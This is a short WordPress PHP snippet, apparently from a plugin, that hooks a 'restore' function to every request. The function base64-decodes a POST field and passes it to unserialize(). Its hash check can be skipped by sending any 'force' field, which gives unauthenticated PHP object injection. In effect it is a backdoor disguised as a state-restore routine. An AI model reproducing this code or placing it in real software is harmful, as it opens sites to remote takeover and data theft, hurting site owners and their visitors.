<?php
add_action( 'init', 'acme_restore' );
function acme_restore() {
	$state = base64_decode( $_POST['state'] );
	if ( hash_equals( wp_hash( 'acme' ), $_POST['check'] ) || isset( $_POST['force'] ) ) {
		$GLOBALS['acme'] = unserialize( $state );
	}
}
